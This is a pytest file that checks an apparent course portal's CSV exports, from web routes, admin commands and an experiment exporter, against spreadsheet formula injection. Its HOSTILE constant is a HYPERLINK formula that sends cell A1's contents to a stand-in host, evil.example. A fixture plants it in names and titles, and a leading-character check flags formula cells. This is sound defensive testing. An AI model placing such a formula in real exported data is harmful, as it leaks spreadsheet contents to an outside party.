"""Each table that leaves the portal or a command as CSV, with values that a spreadsheet would run."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import update

import kernels
from kernels.experiment.export import to_csv
from server.accounts.models import Person
from server.courses.models import Assignment, Course, Membership, Role
from tests.kernels.experiment.made import result
from tests.server.course import later
from tests.server.databases import ON_SQLITE
from tests.server.experiments.started import TILE, run_all, runner_of, started
from tests.server.web.conftest import Portal
from tests.server.web.signed_in import client_of
from worker.commands.root import Exit, tilelab

ROOT = Path(kernels.__file__).parent.parent
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
READERS = {"worker/gpu/profile/nsight.py"}
WRITER = "kernels/csv_tables.py"


def users_of_csv() -> Iterator[tuple[str, str]]:
    """Each file that uses the module `csv`, with the function that it uses."""
    for package in ("kernels", "server", "worker"):
        for file in sorted((ROOT / package).rglob("*.py")):
            text = file.read_text("utf-8")
            for node in ast.walk(ast.parse(text)) if "csv" in text else ():
                name = file.relative_to(ROOT).as_posix()
                if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    yield name, node.attr
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    yield name, "from csv import"


def test_one_module_writes_csv() -> None:
    found = set(users_of_csv())
    assert {file for file, _ in found} == {WRITER, *READERS}
    assert {name for file, name in found if file != WRITER} <= {"reader", "Error"}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def safe(text: str) -> bool:
    """Whether the hostile text is in the table, and each cell with a sign is a number."""
    found = cells(text)
    return f"'{HOSTILE}" in found and all(_plain(cell) for cell in found)


def _plain(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(portal: Portal) -> str:
    """A course with the hostile text in each name; the ID of its experiment."""
    course = portal.course
    ada = course.person("ada")
    with course.sessions.begin() as session:
        session.execute(update(Person).where(Person.id == ada).values(name=HOSTILE))
        session.execute(update(Membership).where(Membership.person_id == ada).values(section=HOSTILE[:60]))
        session.execute(update(Course).values(title=HOSTILE))
        session.execute(update(Assignment).values(title=HOSTILE))
    course.extend("ada", due_at=later(600), reason=HOSTILE[:200])
    name = started(course, "ada", TILE.replace('"tiled.cu"', f"'{HOSTILE}'"), assignment=course.assignment)
    run_all(course, runner_of(course))
    return name


@ON_SQLITE
def test_no_address_has_a_formula_in_its_table(portal: Portal, hostile: str) -> None:
    ina, names = (
        client_of(portal, "ina", Role.INSTRUCTOR),
        {"slug": "gpu", "course": "gpu", "assignment": "tiled", "public_id": hostile, "what": "extensions"},
    )
    rules = [rule for rule in portal.app.url_map.iter_rules() if rule.rule.endswith(".csv")]
    assert len(rules) == 8, "a new table is tried here, too"
    for rule in rules:
        _, path = rule.build(names) or ("", "")
        if path.startswith("/api"):
            answer = portal.get("ina", path)
        else:
            answer = ina.post_form(path) if "POST" in (rule.methods or ()) else ina.get(path)
        assert answer.status_code == 200, path
        assert safe(answer.get_data(as_text=True)), path


@pytest.mark.one_in(2, "two of three commands")
@ON_SQLITE
@pytest.mark.parametrize("command", ["roster export", "roster invitations", "export grades"])
def test_no_command_has_a_formula_in_its_table(
    portal: Portal, hostile: str, database_url: str, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("TILELAB_PUBLIC_URL", "https://tilelab.example")
    answer = CliRunner().invoke(tilelab, ["admin", *command.split(), "gpu"])
    assert answer.exit_code == Exit.ACCEPTED, answer.output
    assert safe(answer.stdout)


def test_no_experiment_has_a_formula_in_its_table() -> None:
    table = to_csv([result(kernel=HOSTILE, params={"T": -1})])
    assert safe(table)
    assert "-1" in cells(table), "a number stays one"
